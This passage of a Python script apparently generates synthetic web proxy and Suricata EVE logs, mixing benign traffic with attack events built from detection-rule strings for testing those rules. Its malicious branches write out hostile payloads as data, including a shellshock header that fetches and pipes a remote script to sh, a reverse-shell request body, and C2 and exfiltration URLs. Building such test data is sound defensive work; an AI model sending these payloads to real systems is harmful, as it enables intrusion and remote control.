            for res, rtype in r.sample([("/static/app.js", "application/javascript"), ("/static/style.css", "text/css"),
                                        ("/static/logo.png", "image/png"), ("/favicon.ico", "image/x-icon")],
                                       r.randint(1, 3)):
                t += timedelta(milliseconds=r.randint(10, 200))
                out.append(self.request(t, client, "GET", f"https://{host}{res}", client[2], 200, rtype, url, ck))
        self.now = t
        return out

    def malicious(self, t):
        """One event made for a rule of rules/web/proxy_generic."""
        r, R = self.rnd, self.rules
        client = r.choice(self.clients)
        g = "web/proxy_generic/"

        def req(url, agent=None, method="GET", status=200, ctype="application/octet-stream", **extra):
            e = self.request(t, client, method, url, client[2] if agent is None else agent, status, ctype)
            e.update(extra)
            return e

        bad_host = "cdn-%s.%s" % (hexid(r, 4), r.choice(("xyz", "top", "online")))
        which = r.randrange(29)
        ua_rules = ["proxy_ua_apt.yml", "proxy_ua_frameworks.yml", "proxy_ua_malware.yml"]
        if which < 3:  # exact user agents of APTs, frameworks, malware
            return req(f"http://{bad_host}/api/v1/{hexid(r, 8)}", R.pick(r, g + ua_rules[which], "c-useragent"),
                       "POST", ctype="text/plain")
        if which == 3:  # hack tools
            agent = "Mozilla/5.0 (compatible; " + R.pick(r, g + "proxy_ua_hacktool.yml", "c-useragent") + " 1.4)"
            return req(f"http://{public_address(r)}/login.php", agent, "POST", 401, "text/html")
        if which == 4:
            name = g + "proxy_ua_susp.yml"
            search = r.choice(("selection1", "selection2", "selection3"))
            v = R.pick(r, name, "c-useragent", search)
            agent = v + "(Windows NT 6.1)" if search == "selection1" else \
                "Mozilla/5.0 (compatible; " + v + " 2.1)" if search == "selection2" else v
            return req(f"http://{bad_host}/gate.php", agent, "POST", ctype="text/plain")
        if which == 5:
            v = R.pick(r, g + "proxy_ua_base64_encoded.yml", "c-useragent")
            return req(f"http://{bad_host}/index.php", v + "W96aWxsYS81LjA=", ctype="text/plain")
        if which == 6:
            v = R.pick(r, g + "proxy_ua_cryptominer.yml", "c-useragent")
            return req(f"https://{bad_host}/", v + "6.21.2 (Windows NT 10.0; Win64; x64) libuv/1.48.0 msvc/2022",
                       ctype="application/json")
        if which == 7:
            v = R.pick(r, g + "proxy_ua_empty.yml", "c-useragent")
            return req(f"http://{bad_host}/a.ps1", v, ctype="text/plain")
        if which == 8:
            v = R.pick(r, g + "proxy_ua_powershell.yml", "c-useragent")
            return req(f"https://raw.githubusercontent.com/{hexid(r, 6)}/tools/main/inv.ps1",
                       "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US)" + v + "5.1.22621.2506", ctype="text/plain")
        if which == 9:
            v = R.pick(r, g + "proxy_ua_rclone.yml", "c-useragent")
            return req(f"https://{bad_host}/upload", v + "1.66.0", "PUT", ctype="application/json")
        if which == 10:
            v = R.pick(r, g + "proxy_ua_susp_base64.yml", "c-useragent")
            return req(f"http://{bad_host}/c", "TW96aWxsYS81LjAgKFdpbmRvd3MgTlQgMTAuMCk" + v, ctype="text/plain")
        if which in (11, 12):
            name = g + ("proxy_ua_bitsadmin_susp_ip.yml" if which == 11 else "proxy_ua_bitsadmin_susp_tld.yml")
            agent = R.pick(r, name, "c-useragent") + "7.8"
            host = public_address(r) if which == 11 else bad_host
            return req(f"http://{host}/payload.exe", agent)
        if which == 13:
            agent = R.pick(r, g + "proxy_downloadcradle_webdav.yml", "c-useragent") + "10.0.22631"
            return req(f"http://{public_address(r)}/webdav/", agent, "GET", 207, "text/xml")
        if which == 14:
            name = g + "proxy_webdav_external_execution.yml"
            agent = R.pick(r, name, "c-useragent") + "10.0.22631"
            return req(f"http://{public_address(r)}:8080/share/invoice" + R.pick(r, name, "c-uri"), agent)
        if which == 15:
            agent = R.pick(r, g + "proxy_hello_world_user_agent.yml", "c-useragent")
            return req(f"http://{public_address(r)}/", agent, ctype="text/html")
        if which == 16:
            host = "api.telegram.org"
            return req(f"https://{host}/bot{r.randint(10 ** 9, 10 ** 10)}:AAH{hexid(r, 32)}/sendDocument",
                       "Go-http-client/1.1", "POST", ctype="application/json")
        if which in (17, 18, 19):
            name = g + ("proxy_download_susp_dyndns.yml", "proxy_download_susp_tlds_blacklist.yml",
                        "proxy_download_susp_tlds_whitelist.yml")[which - 17]
            ext = R.pick(r, name, "c-uri-extension")
            host = "update" + R.pick(r, name, "cs-host") if which < 19 else "files.%s.ru" % hexid(r, 4)
            return req(f"http://{host}/download/invoice_{r.randint(1000, 9999)}.{ext}")
        if which == 20:
            q = R.pick(r, g + "proxy_f5_tm_utility_bash_api_request.yml", "c-uri")
            return req(f"https://10.40.0.8{q}", "curl/7.88.1", "POST", ctype="application/json")
        if which == 21:
            v = R.pick(r, g + "proxy_hktl_baby_shark_default_agent_url.yml", "c-uri")
            return req(f"http://{bad_host}/{v}{hexid(r, 8)}", ctype="text/html")
        if which == 22:  # Cobalt Strike malleable profiles: c-uri is the path, as the rule has it
            name = g + "proxy_hktl_cobalt_strike_malleable_c2_requests.yml"
            sel = r.choice(("selection_amazon_1", "selection_amazon_2", "selection_generic_1", "selection_generic_2"))
            if sel.startswith("selection_amazon"):
                e = req("http://www.amazon.com/", R.pick(r, name, "c-useragent", sel),
                        R.pick(r, name, "cs-method", sel), ctype="text/html")
                e["c-uri"] = R.pick(r, name, "c-uri", sel)
                if sel == "selection_amazon_1":
                    e["cs-cookie"] = "skin=noskin;session-token=" + R.pick(r, name, "cs-cookie", sel)
                return e
            agent = R.pick(r, name, "c-useragent", sel)
            if sel == "selection_generic_2":
                agent = "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0" + agent
            return req(f"http://{public_address(r)}/updates.rss", agent, ctype="text/html")
        if which == 23:  # Empire: the rule names the path cs-uri
            name = g + "proxy_hktl_empire_ua_uri_patterns.yml"
            path = R.pick(r, name, "cs-uri")
            e = req(f"http://{public_address(r)}{path}", R.pick(r, name, "c-useragent"), "POST", ctype="text/html")
            e["cs-uri"] = path
            return e
        if which == 24:
            name = g + "proxy_pua_advanced_ip_scanner_update_check.yml"
            q = "&".join(v + x for v, x in zip(R.values(name, "c-uri-query"), ("en", "2-5-3680", "n", "upd", "p",
                                                                              "aips")))
            return req("http://www.advanced-ip-scanner.com" + R.pick(r, name, "c-uri") + "?" + q,
                       "Advanced IP Scanner", ctype="text/xml")
        if which == 25:
            v = R.pick(r, g + "proxy_pwndrop.yml", "c-uri")
            return req(f"https://{bad_host}{v}{hexid(r, 6)}/doc.iso")
        if which == 26:
            v = R.pick(r, g + "proxy_raw_paste_service_access.yml", "c-uri")
            return req(f"https://{'pastebin' if v.startswith('.') else ''}{v}{hexid(r, 8)}",
                       "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506",
                       ctype="text/plain")
        if which == 27:
            v = R.pick(r, g + "proxy_susp_flash_download_loc.yml", "c-uri")
            return req(f"http://{bad_host}{v}")
        # IPFS-hosted credential phishing: the rule matches cs-uri
        url = (f"https://ipfs.io/ipfs/bafybei{hexid(r, 40)}/login.html#" + "%s.%s@corp.example.com" %
               tuple(client[1].split(".")))
        return req(url, ctype="text/html", **{"cs-uri": url})


# ---------------------------------------------------------------------------
# eve: Suricata EVE JSON
# ---------------------------------------------------------------------------

TLS_SITES = [  # (sni, issuer, share)
    ("www.google.com", "C=US, O=Google Trust Services, CN=WR2", 10),
    ("outlook.office365.com", "C=US, O=DigiCert Inc, CN=DigiCert Cloud Services CA-1", 10),
    ("teams.microsoft.com", "C=US, O=Microsoft Corporation, CN=Microsoft Azure RSA TLS Issuing CA 03", 8),
    ("login.microsoftonline.com", "C=US, O=Microsoft Corporation, CN=Microsoft Azure RSA TLS Issuing CA 07", 6),
    ("corp-my.sharepoint.com", "C=US, O=Microsoft Corporation, CN=Microsoft Azure RSA TLS Issuing CA 04", 5),
    ("github.com", "C=GB, ST=Greater Manchester, L=Salford, O=Sectigo Limited, CN=Sectigo ECC Domain Validation "
                   "Secure Server CA", 3),
    ("slack.com", "C=US, O=Amazon, CN=Amazon RSA 2048 M02", 4),
    ("www.bbc.co.uk", "C=BE, O=GlobalSign nv-sa, CN=GlobalSign RSA OV SSL CA 2018", 2),
    ("fonts.gstatic.com", "C=US, O=Google Trust Services, CN=WR2", 3),
    ("update.googleapis.com", "C=US, O=Google Trust Services, CN=WR2", 2),
    ("settings-win.data.microsoft.com", "C=US, O=Microsoft Corporation, CN=Microsoft Azure RSA TLS Issuing CA 08", 4),
]
HTTP_SITES = [  # (host, url, user agent or None (the client's browser), content type, share)
    ("ctldl.windowsupdate.com", "/msdownload/update/v3/static/trustedr/en/authrootstl.cab?f8a1c3b2d4e5f607",
     "Microsoft-CryptoAPI/10.0", "application/vnd.ms-cab-compressed", 4),
    ("ocsp.digicert.com", "/MFEwTzBNMEswSTAJBgUrDgMCGgUABBTfqhLjKLEJQZPin0KCzkdAQpVYowQUsT7DaQP4v0cB1JgmGggC72NkK8MC"
                          "EAx5qUSwjBGVIJJhX%2BJrHYM%3D", "Microsoft-CryptoAPI/10.0", "application/ocsp-response", 4),
    ("www.msftconnecttest.com", "/connecttest.txt", "Microsoft NCSI", "text/plain", 3),
    ("au.download.windowsupdate.com", "/c/msdownload/update/software/defu/2026/04/am_delta_patch_1.409.412.0_"
                                      "3b4c5d6e7f.exe", "Microsoft BITS/7.8", "application/octet-stream", 1),
    ("deb.debian.org", "/debian/dists/bookworm/InRelease", "Debian APT-HTTP/1.3 (2.6.1)", "text/plain", 1),
    ("intranet.corp.example", "/portal/news.html", None, "text/html", 2),
]
JA3 = {  # client kind -> (hash, string)
    "chrome": ("cd08e31494f9531f560d64c695473da9", "771,4865-4866-4867-49195-49199-49196-49200-52393-52392-49171-"
                                                   "49172-156-157-47-53,0-23-65281-10-11-35-16-5-13-18-51-45-43-27-"
                                                   "17513,29-23-24,0"),
    "schannel": ("28a2c9bd18a11de089ef85a160da29e4", "771,49196-49195-49200-49199-159-158-49188-49187-49192-49191-"
                                                     "49162-49161-49172-49171-157-156-61-60-53-47-10,0-10-11-13-35-23-"
                                                     "65281,29-23-24,0"),
}
JA3S = [("f4febc55ea12b31ae17cfb7e614afda8", "771,4865,51-43"),
        ("eb1d94daa7e0344597e756a1fb6e7054", "771,49199,65281-0-11-35-16")]
SIGNATURES = [  # benign alerts: (sid, rev, signature, category, severity, app proto)
    (2013028, 7, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2, "http"),
    (2027390, 3, "ET INFO Windows OS Submitting USB Metadata to Microsoft", "Misc activity", 3, "http"),
    (2029340, 2, "ET INFO TLS Handshake Failure", "Potentially Bad Traffic", 3, "tls"),
    (2210045, 2, "SURICATA STREAM Packet with invalid ack", "Generic Protocol Command Decode", 3, "tls"),
]
DNS_SERVER = "10.1.0.10"


class Eve:
    """What one sensor at the edge of an office network writes."""

    def __init__(self, rnd, rules):
        self.rnd, self.rules = rnd, rules
        self.clients = [("10.1.%d.%d" % (4 + i // 250, 10 + i % 250), rnd.choice(("chrome", "chrome", "schannel")))
                        for i in range(500)]
        self.flow_id = rnd.getrandbits(50)

    def base(self, t, flow_id, event_type, src, sport, dst, dport, proto="TCP"):
        return {"timestamp": iso(t, 6) + "+0000", "flow_id": flow_id, "in_iface": "ens192", "event_type": event_type,
                "src_ip": src, "src_port": sport, "dest_ip": dst, "dest_port": dport, "proto": proto}

    def next_flow(self):
        self.flow_id += self.rnd.randint(1, 1 << 20)
        return self.flow_id

    def dns(self, t, client, name, rrtype="A", answer=None):
        """A query and its answer."""
        r = self.rnd
        fid, sport, qid = self.next_flow(), r.randint(49152, 65535), r.randint(1, 65535)
        q = self.base(t, fid, "dns", client, sport, DNS_SERVER, 53, "UDP")
        q["dns"] = {"type": "query", "id": qid, "rrname": name, "rrtype": rrtype, "tx_id": 0, "opcode": 0}
        t += timedelta(microseconds=r.randint(300, 30000))
        a = self.base(t, fid, "dns", DNS_SERVER, 53, client, sport, "UDP")
        rdata = answer or host_address(name)
        a["dns"] = {"version": 2, "type": "answer", "id": qid, "flags": "8180", "qr": True, "rd": True, "ra": True,
                    "opcode": 0, "rrname": name, "rrtype": rrtype, "rcode": "NOERROR",
                    "answers": [{"rrname": name, "rrtype": rrtype, "ttl": r.randint(30, 3600), "rdata": rdata}],
                    "grouped": {rrtype: [rdata]}}
        return [q, a], t

    def flow(self, t0, t1, fid, client, sport, dst, dport, app, proto="TCP", alerted=False):
        r = self.rnd
        e = self.base(t1, fid, "flow", client, sport, dst, dport, proto)
        if app:
            e["app_proto"] = app
        pts, ptc = r.randint(4, 40), r.randint(4, 60)
        e["flow"] = {"pkts_toserver": pts, "pkts_toclient": ptc, "bytes_toserver": pts * r.randint(60, 400),
                     "bytes_toclient": ptc * r.randint(60, 1400), "start": iso(t0, 6) + "+0000",
                     "end": iso(t1, 6) + "+0000", "age": int((t1 - t0).total_seconds()),
                     "state": "closed" if proto == "TCP" else "established",
                     "reason": "timeout", "alerted": alerted}
        if proto == "TCP":
            e["tcp"] = {"tcp_flags": "1b", "tcp_flags_ts": "1b", "tcp_flags_tc": "1b", "syn": True, "fin": True,
                        "psh": True, "ack": True, "state": "closed"}
        return e

    def tls(self, t, client, kind, sni, issuer, tls13):
        r = self.rnd
        fid, sport, dst = self.next_flow(), r.randint(49152, 65535), host_address(sni)
        e = self.base(t, fid, "tls", client, sport, dst, 443)
        ja3, ja3s = JA3[kind], r.choice(JA3S)
        tls = {"sni": sni, "version": "TLS 1.3" if tls13 else "TLS 1.2"}
        if not tls13:  # the certificate is only seen before TLS 1.3
            serial = hashlib.sha1(sni.encode()).hexdigest()[:16].upper()
            tls = {"subject": "CN=" + sni, "issuerdn": issuer,
                   "serial": ":".join(serial[i:i + 2] for i in range(0, 16, 2)),
                   "fingerprint": ":".join(hashlib.sha1(issuer.encode() + sni.encode()).hexdigest()[i:i + 2]
                                           for i in range(0, 40, 2)), **tls,
                   "notbefore": "2026-03-02T08:21:14", "notafter": "2026-05-25T08:21:13"}
        tls["ja3"] = {"hash": ja3[0], "string": ja3[1]}
        tls["ja3s"] = {"hash": ja3s[0], "string": ja3s[1]}
        e["tls"] = tls
        t1 = t + timedelta(seconds=r.randint(1, 120))
        return [e], (t1, fid, client, sport, dst, 443, "tls")

    def http(self, t, client, host, url, agent, ctype, status=200, method="GET", dst=None):
        r = self.rnd
        fid, sport, dst = self.next_flow(), r.randint(49152, 65535), dst or host_address(host)
        e = self.base(t, fid, "http", client, sport, dst, 80)
        e["tx_id"] = 0
        e["http"] = {"hostname": host, "url": url, "http_user_agent": agent, "http_content_type": ctype,
                     "http_method": method, "protocol": "HTTP/1.1", "status": status,
                     "length": r.randint(200, 90000)}
        return e, (t + timedelta(seconds=r.randint(1, 20)), fid, client, sport, dst, 80, "http")

    def alert(self, t, sig, http_event=None, payload=None, src=None, dst=None):
        r = self.rnd
        sid, rev, signature, category, severity, app = sig
        if http_event:
            e = dict(http_event)
            e["event_type"] = "alert"
            e["timestamp"] = iso(t, 6) + "+0000"
        else:
            e = self.base(t, self.next_flow(), "alert", src, r.randint(49152, 65535), dst, 443)
        e = {k: e[k] for k in ("timestamp", "flow_id", "in_iface", "event_type", "src_ip", "src_port", "dest_ip",
                               "dest_port", "proto") if k in e} | {
            "pkt_src": "wire/pcap",
            "alert": {"action": "allowed", "gid": 1, "signature_id": sid, "rev": rev, "signature": signature,
                      "category": category, "severity": severity, "metadata": {"updated_at": ["2024_03_11"]}},
            "app_proto": app} | ({"http": http_event["http"]} if http_event else {})
        if payload:
            e["payload_printable"] = payload
        e["flow"] = {"pkts_toserver": r.randint(3, 9), "pkts_toclient": r.randint(2, 9),
                     "bytes_toserver": r.randint(300, 3000), "bytes_toclient": r.randint(200, 9000),
                     "start": e["timestamp"]}
        return e

    def benign(self, t):
        """A connection as the sensor sees it: name lookup, session, close;
        pending flow records are returned with their times (written later,
        when the flow times out)."""
        r = self.rnd
        client, kind = r.choice(self.clients)
        what = r.choices(("tls", "http", "internal", "ntp", "alert"), (70, 12, 14, 3, 1))[0]
        if what == "tls":
            sni, issuer, _ = weighted_row(r, TLS_SITES)
            out, t = self.dns(t, client, sni)
            t += timedelta(microseconds=r.randint(500, 20000))
            ev, pending = self.tls(t, client, kind, sni, issuer, r.random() < 0.7)
            self.now = t
            return out + ev, [pending]
        if what == "http":
            host, url, agent, ctype, _ = weighted_row(r, HTTP_SITES)
            answer = "10.1.0.30" if host.endswith(".corp.example") else None
            out, t = self.dns(t, client, host, "A", answer)
            t += timedelta(microseconds=r.randint(500, 20000))
            agent = agent or weighted(r, DESKTOP_BROWSERS)
            ev, pending = self.http(t, client, host, url, agent, ctype, dst=answer)
            self.now = t
            return out + [ev], [pending]
        if what == "internal":
            dst, dport, app = r.choice((("10.1.0.20", 445, "smb"), ("10.1.0.10", 389, "ldap"),
                                        ("10.1.0.10", 88, "krb5"), ("10.1.0.10", 135, "dcerpc"),
                                        ("10.1.0.25", 8443, "tls")))
            return [], [(t + timedelta(seconds=r.randint(1, 300)), self.next_flow(), client,
                         r.randint(49152, 65535), dst, dport, app)]
        if what == "ntp":
            return [], [(t + timedelta(seconds=r.randint(1, 60)), self.next_flow(), client, 123, "10.1.0.10", 123,
                         "ntp", "UDP")]
        sig = r.choice(SIGNATURES)
        if sig[5] == "http":
            host, url, agent, ctype, _ = HTTP_SITES[0]
            if "curl" in sig[2]:
                agent = "curl/8.4.0"
            ev, pending = self.http(t, client, host, url, agent, ctype)
            return [ev, self.alert(t, sig, ev)], [pending]
        return [self.alert(t, sig, src=client, dst=host_address(r.choice(TLS_SITES)[0]))], []

    def malicious(self, t):
        """Events made from the network rules' strings: names from the dns
        and Zeek dns rules, user agents and URLs from the proxy rules,
        shell strings from the Linux keyword rules in alert payloads."""
        r, R = self.rnd, self.rules
        client, kind = r.choice(self.clients)
        which = r.randrange(10)
        if which < 4:  # a name from the dns rules, looked up, then contacted over TLS
            name = r.choice(("network/dns/net_dns_mal_cobaltstrike.yml",
                             "network/dns/net_dns_pua_cryptocoin_mining_xmr.yml",
                             "network/dns/net_dns_external_service_interaction_domains.yml",
                             "network/dns/net_dns_wannacry_killswitch_domain.yml",
                             "network/dns/net_dns_susp_telegram_api.yml", "network/zeek/zeek_dns_mining_pools.yml",
                             "network/zeek/zeek_dns_torproxy.yml"))
            v = R.pick(r, name, "query")
            mods = next(m for s, f, m, x in detection(R.dir, name) if f == "query" and literal(x) == v)
            host = (v + hexid(r, 6) + ".example.net" if mods == "startswith" else
                    hexid(r, 8) + v if mods == "endswith" and v.startswith(".") else
                    "a" + hexid(r, 6) + "." + v if mods in ("endswith", "contains") else v)
            out, t = self.dns(t, client, host)
            self.now = t + timedelta(milliseconds=20)
            if which == 0:
                return out
            ev, pending = self.tls(t + timedelta(milliseconds=20), client, kind, host, "C=US, O=Let's Encrypt, CN=R11",
                                   False)
            return out + ev, [pending]
        if which < 7:  # a proxy rule's user agent or URL over plain HTTP
            g = "web/proxy_generic/"
            if which == 4:
                agent = R.pick(r, g + r.choice(("proxy_ua_malware.yml", "proxy_ua_apt.yml", "proxy_ua_frameworks.yml")),
                               "c-useragent")
                url = "/%s.php" % hexid(r, 6)
            elif which == 5:
                agent = "Mozilla/5.0 (compatible; " + R.pick(r, g + "proxy_ua_hacktool.yml", "c-useragent") + ")"
                url = r.choice(PROBES)
            else:
                agent = weighted(r, DESKTOP_BROWSERS)
                url = R.pick(r, g + "proxy_pwndrop.yml", "c-uri") + hexid(r, 6) + "/doc.iso"
            host = public_address(r)
            ev, pending = self.http(t, client, host, url, agent, "text/html", dst=host)
            return [ev], [pending]
        # an exploit against a server in the DMZ, from outside, with the
        # Linux rules' shell strings in the request: shellshock in the user
        # agent, a reverse shell in the body
        attacker = public_address(r)
        if which == 7:
            kw = R.pick(r, "linux/builtin/lnx_shellshock.yml")
            agent = kw + " /bin/bash -c 'wget -qO- http://%s/x | sh'" % attacker
            payload = None
            sig = (2022028, 3, "ET WEB_SERVER Possible CVE-2014-6271 Attempt in HTTP Headers",
                   "Attempted Administrator Privilege Gain", 1, "http")
        else:
            kw = R.pick(r, r.choice(("linux/builtin/lnx_shell_susp_rev_shells.yml",
                                     "linux/builtin/lnx_susp_dev_tcp.yml")))
            agent = "python-requests/2.31.0"
            payload = ("POST /cgi-bin/admin.cgi HTTP/1.1\r\nHost: 10.20.0.5\r\nUser-Agent: %s\r\nContent-Type: "
                       "application/x-www-form-urlencoded\r\n\r\ncmd=%s%s/4444 0>&1" % (agent, kw, attacker))
            sig = (2024897, 4, "ET WEB_SERVER Reverse Shell Command in HTTP Request Body",
                   "Attempted Administrator Privilege Gain", 1, "http")
        ev, pending = self.http(t, attacker, "10.20.0.5", "/cgi-bin/admin.cgi", agent, "text/html",
                                500 if payload else 200, "POST" if payload else "GET", dst="10.20.0.5")
        pending = (pending[0], pending[1], attacker, ev["src_port"], "10.20.0.5", 80, "http", "TCP", True)
        return [ev, self.alert(t, sig, ev, payload)], [pending]


KINDS = {"web": Web, "proxy": Proxy, "eve": Eve}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--kind", choices=sorted(KINDS), default="web")
    ap.add_argument("--events", type=int, default=0)
    ap.add_argument("--mb", type=float, default=0)
    ap.add_argument("--malicious", type=float, default=0.01, help="share of events made from the rules' strings")
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--rules", default=DEFAULT_RULES)
    a = ap.parse_args()
    if not a.events and not a.mb:
        ap.error("give --events N or --mb M")
    if not os.path.isdir(a.rules):
        sys.exit(f"gen-net: no rules under {a.rules}")
    rnd = random.Random(a.seed)
    source = KINDS[a.kind](rnd, Rules(a.rules))
    t = datetime(2026, 4, 20, 8, 0, 0, tzinfo=timezone.utc)
    out = sys.stdout
    written = n = 0
    limit = a.mb * 1e6
    pending = []  # eve: flow records to write when their flow ends, as (end time, seq, fields)
    seq = 0
    sizes = [[1, 1], [1, 1]]  # events and draws, benign and malicious
    while (a.events and n < a.events) or (limit and written < limit):
        t += timedelta(microseconds=rnd.randint(200, 6000))
        source.now = t
        # a benign draw is a burst of events (a page and its assets, a
        # lookup and its connection), a malicious one is one or a few: draw
        # the malicious with the odds that make them --malicious of the
        # events written, from the bursts' mean sizes so far
        b, m = sizes[0][0] / sizes[0][1], sizes[1][0] / sizes[1][1]
        bad = rnd.random() < (a.malicious * b / (m * (1 - a.malicious) + a.malicious * b) if a.malicious < 1 else 1)
        got = source.malicious(t) if bad else source.benign(t)
        events, flows = got if isinstance(got, tuple) else (got if isinstance(got, list) else [got], [])
        sizes[bad][0] += len(events)
        sizes[bad][1] += 1
        t = max(t, source.now)
        for f in flows:
            seq += 1
            heapq.heappush(pending, (f[0], seq, f))
        while pending and pending[0][0] <= t:
            _, _, f = heapq.heappop(pending)
            events.insert(0, source.flow(f[0] - timedelta(seconds=rnd.randint(1, 30)), *f))
        for e in events:
            line = json.dumps(e, separators=(",", ":")) + "\n"
            out.write(line)
            written += len(line)
            n += 1
            if a.events and n >= a.events:
                break
    return 0


if __name__ == "__main__":
    sys.exit(main())
